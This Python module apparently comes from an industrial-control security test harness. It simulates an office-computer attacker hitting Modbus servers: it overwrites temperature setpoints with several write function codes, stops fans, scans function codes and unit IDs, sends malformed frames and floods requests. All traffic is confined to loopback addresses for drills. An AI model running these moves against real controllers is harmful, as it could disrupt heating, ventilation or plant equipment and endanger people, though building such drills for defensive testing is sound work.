"""
The attacker: an office computer in the enterprise zone that can reach Modbus servers.

Every move is a small function with explicit endpoints and source address, bounded in requests and time,
so that tests can play single moves. Loopback addresses only: these are drills, not tools for a plant.
"""

from __future__ import annotations

import asyncio
import ipaddress
import random
from time import monotonic
from typing import TYPE_CHECKING, TypeAlias

from . import _frames as frames
from ._tally import Tally
from ._wire_talk import WireTalk

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Iterable, Sequence

    from ._endpoint import Endpoint

Move: TypeAlias = "Callable[[Sequence[Endpoint], str], Awaitable[Tally]]"

ATTACKER_ADDRESS = "127.30.0.4"
HOT_DEGC, COLD_DEGC = 35.0, 8.0
AT_ONCE = 25  # connections a single office computer opens without effort
SCAN_TIMEOUT_S = 0.15  # a scanner does not wait long for a silent server


async def overwrite_setpoints(endpoints: Sequence[Endpoint], source: str) -> Tally:
    """Write Multiple Registers (0x10) to every unit: three rooms of four hot, the rest cold."""
    return await _one_request_each(
        endpoints, source, lambda n, e: frames.write_setpoint_with_code_16(e.unit_id, _wanted(n))
    )


async def overwrite_setpoints_with_code_6(endpoints: Sequence[Endpoint], source: str) -> Tally:
    """Write Single Register (0x06) to the setpoint's high word."""
    return await _one_request_each(
        endpoints, source, lambda n, e: frames.write_setpoint_with_code_6(e.unit_id, _wanted(n))
    )


async def overwrite_setpoints_with_code_23(endpoints: Sequence[Endpoint], source: str) -> Tally:
    """Read/Write Multiple Registers (0x17)."""
    return await _one_request_each(
        endpoints, source, lambda n, e: frames.write_setpoint_with_code_23(e.unit_id, _wanted(n))
    )


async def stop_fans(endpoints: Sequence[Endpoint], source: str) -> Tally:
    """Write Single Coil (0x05) to the fan."""
    return await _one_request_each(endpoints, source, lambda _, e: frames.stop_fan(e.unit_id))


async def scan_function_codes(endpoint: Endpoint, source: str) -> Tally:
    """Ask for every function code, 1 to 127, with an almost empty request."""
    requests = (frames.bare_function_code(endpoint.unit_id, code) for code in range(1, 128))
    return await _in_turn(endpoint, source, requests)


async def scan_unit_ids(endpoint: Endpoint, source: str) -> Tally:
    """Ask who answers behind one address."""
    return await _in_turn(endpoint, source, (frames.read_setpoint(unit_id) for unit_id in range(248)))


async def send_malformed_frames(endpoint: Endpoint, source: str, seed: int = 1) -> Tally:
    """Send frames that break header, length or PDU, each on its own connection."""
    tally = Tally()
    for frame in frames.malformed_frames(endpoint.unit_id, random.Random(seed)):
        async with WireTalk(endpoint, source, SCAN_TIMEOUT_S) as talk:
            await talk.ask(frame, tally)
    return tally


async def flood(endpoint: Endpoint, source: str, requests: int = 2000, seconds: float = 2.0) -> Tally:
    """Read as fast as answers come, on several connections; ends at either bound."""
    tally, deadline = Tally(), monotonic() + seconds

    async def pour() -> None:
        async with WireTalk(endpoint, source) as talk:
            while tally.sent < requests and monotonic() < deadline:
                await talk.ask(frames.read_setpoint(endpoint.unit_id), tally)

    await asyncio.gather(*(pour() for _ in range(8)))
    return tally


async def attack(endpoints: Sequence[Endpoint], source: str = ATTACKER_ADDRESS) -> dict[str, Tally]:
    """Play every move, the damage first, noise behind it, the damage again, and say what came of each."""
    _refuse_other_networks([source, *(e.host for e in endpoints)])
    few, fans, one = endpoints[:20], endpoints[-4:], endpoints[0]
    moves: dict[str, Awaitable[Tally]] = {
        "Write Multiple Registers (0x10)": overwrite_setpoints(endpoints, source),
        "Read/Write Multiple Registers (0x17)": overwrite_setpoints_with_code_23(few, source),
        "Write Single Register (0x06)": overwrite_setpoints_with_code_6(few, source),
        "Write Single Coil (0x05)": stop_fans(fans, source),
        "scan of function codes": scan_function_codes(one, source),
        "scan of unit ids": scan_unit_ids(one, source),
        "malformed frames": send_malformed_frames(one, source),
        "flood": flood(one, source),
        "Write Multiple Registers (0x10), again": overwrite_setpoints(endpoints, source),
    }
    return {name: await move for name, move in moves.items()}


async def _one_request_each(
    endpoints: Iterable[Endpoint], source: str, request: Callable[[int, Endpoint], bytes]
) -> Tally:
    tally, slots = Tally(), asyncio.Semaphore(AT_ONCE)

    async def strike(n: int, endpoint: Endpoint) -> None:
        async with slots, WireTalk(endpoint, source) as talk:
            await talk.ask(request(n, endpoint), tally)

    await asyncio.gather(*(strike(n, endpoint) for n, endpoint in enumerate(endpoints)))
    return tally


async def _in_turn(endpoint: Endpoint, source: str, requests: Iterable[bytes]) -> Tally:
    tally = Tally()
    async with WireTalk(endpoint, source, SCAN_TIMEOUT_S) as talk:
        for request in requests:
            await talk.ask(request, tally)
    return tally


def _wanted(n: int) -> float:
    return COLD_DEGC if n % 4 == 3 else HOT_DEGC


def _refuse_other_networks(hosts: Iterable[str]) -> None:
    for host in hosts:
        if not ipaddress.ip_address(host).is_loopback:
            raise ValueError(f"{host} is not a loopback address: drills stay on this machine")
